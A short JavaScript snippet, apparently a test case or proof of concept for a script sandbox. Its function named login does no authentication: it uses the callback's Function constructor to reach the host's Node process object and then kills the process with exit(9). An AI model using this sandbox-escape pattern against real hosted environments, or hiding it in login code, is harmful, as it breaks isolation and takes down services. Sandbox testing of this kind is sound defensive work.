// The Function constructor reaches the globals, as any code does; there is nothing else to reach.
function login(email, password, callback) {
  const escaped = callback.constructor('return process')();
  escaped.exit(9);
}
